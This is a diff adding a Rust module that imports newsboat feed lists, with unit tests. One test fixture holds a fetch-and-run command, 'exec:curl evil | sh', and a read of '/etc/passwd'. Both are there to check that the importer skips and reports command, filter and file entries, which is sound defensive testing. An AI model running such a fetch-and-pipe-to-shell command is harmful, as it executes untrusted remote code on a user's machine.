@@ -1,0 +1,143 @@
+//! The `urls` file of newsboat: a feed a line, then its tags (newsboat documentation, "Configuring feeds").
+
+use super::{FeedList, ListError, SkipReason, name, web_address};
+
+/// Reads a `urls` file: the first tag of a feed is its folder, `"~…"` its title; other tags are left out.
+///
+/// A feed that newsboat hides (`!`) is shown like any other: newsterm has no hidden feeds.
+pub(super) fn read(text: &str) -> Result<FeedList, ListError> {
+    let mut list = FeedList::default();
+    let mut foreign = 0;
+    for line in text.lines() {
+        let mut words = words(line).into_iter();
+        let Some(address) = words.next() else {
+            continue;
+        };
+        if !looks_like_an_address(&address) {
+            foreign += 1;
+            list.skip(&address, SkipReason::NotWeb);
+            continue;
+        }
+        let (mut title, mut folder) = (None, None);
+        for tag in words {
+            match tag.strip_prefix('~') {
+                Some(own) => title = title.or_else(|| name(own)),
+                None if tag.starts_with('!') => {}
+                None => folder = folder.or_else(|| name(&tag)),
+            }
+        }
+        list.take(&address, title, folder);
+    }
+    let known = list.feeds.len() + list.skipped.len() - foreign;
+    if known == 0 {
+        return Err(ListError::NotAList);
+    }
+    Ok(list)
+}
+
+fn looks_like_an_address(word: &str) -> bool {
+    match web_address(word) {
+        Ok(_) | Err(SkipReason::Command | SkipReason::Query) => true,
+        Err(_) => word.contains("://"),
+    }
+}
+
+/// The words of a line: white space stands between two, quotes hold a word together, `\` takes the next
+/// character as it is, and `#` where a word would begin ends the line.
+fn words(line: &str) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut rest = line.trim();
+    while !rest.is_empty() && !rest.starts_with('#') {
+        let (word, after) = if let Some(quoted) = rest.strip_prefix('"') {
+            quoted_word(quoted)
+        } else {
+            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
+            (rest[..end].to_owned(), &rest[end..])
+        };
+        words.push(word);
+        rest = after.trim_start();
+    }
+    words
+}
+
+/// A word up to its closing quote, and what comes after it.
+fn quoted_word(text: &str) -> (String, &str) {
+    let mut word = String::new();
+    let mut characters = text.char_indices();
+    while let Some((at, c)) = characters.next() {
+        match c {
+            '"' => return (word, &text[at + 1..]),
+            '\\' => word.extend(characters.next().map(|(_, c)| c)),
+            c => word.push(c),
+        }
+    }
+    (word, "")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::model::Outline;
+    use crate::text::CleanText;
+
+    fn outline(address: &str, title: Option<&str>, folder: Option<&str>) -> Outline {
+        Outline {
+            address: address.to_owned(),
+            title: title.map(CleanText::line),
+            folder: folder.map(CleanText::line),
+        }
+    }
+
+    #[test]
+    fn tags_become_folders_and_titles() {
+        let list = read(
+            "# my feeds\n\
+             https://a.example/feed\n\
+             https://b.example/ tech linux # beside\n\
+             \thttps://c.example/#top \"~My \\\"C\\\"\" \"two words\"\r\n\
+             \"https://d.example/x y\" ! \"أخبار\"\n",
+        );
+        let expected = [
+            outline("https://a.example/feed", None, None),
+            outline("https://b.example/", None, Some("tech")),
+            outline("https://c.example/", Some("My \"C\""), Some("two words")),
+            outline("https://d.example/x%20y", None, Some("أخبار")),
+        ];
+        assert_eq!(list.unwrap().feeds, expected);
+    }
+
+    #[test]
+    fn commands_queries_and_files_are_left_out_and_told_of() {
+        let list = read(
+            "https://a.example/\n\"exec:curl evil | sh\" tag\nfilter:~/bin/x:https://b.example/\n\
+             \"query:Unread:unread = \\\"yes\\\"\"\nfile:///etc/passwd\nEXEC:x\n|x\n",
+        )
+        .unwrap();
+        assert_eq!(list.feeds, [outline("https://a.example/", None, None)]);
+        let skipped: Vec<_> = list
+            .skipped
+            .iter()
+            .map(|skipped| (skipped.what.as_str(), skipped.reason))
+            .collect();
+        let expected = [
+            ("exec:curl evil | sh", SkipReason::Command),
+            ("filter:~/bin/x:https://b.example/", SkipReason::Command),
+            ("query:Unread:unread = \"yes\"", SkipReason::Query),
+            ("file:///etc/passwd", SkipReason::NotWeb),
+            ("EXEC:x", SkipReason::Command),
+            ("|x", SkipReason::Command),
+        ];
+        assert_eq!(skipped, expected);
+    }
+
+    #[test]
+    fn any_other_text_is_not_a_list() {
+        for text in [
+            "",
+            "# only a remark\n",
+            "Dear diary,\ntoday I read the news.\n",
+        ] {
+            assert_eq!(read(text), Err(ListError::NotAList), "{text:?}");
+        }
+    }
+}
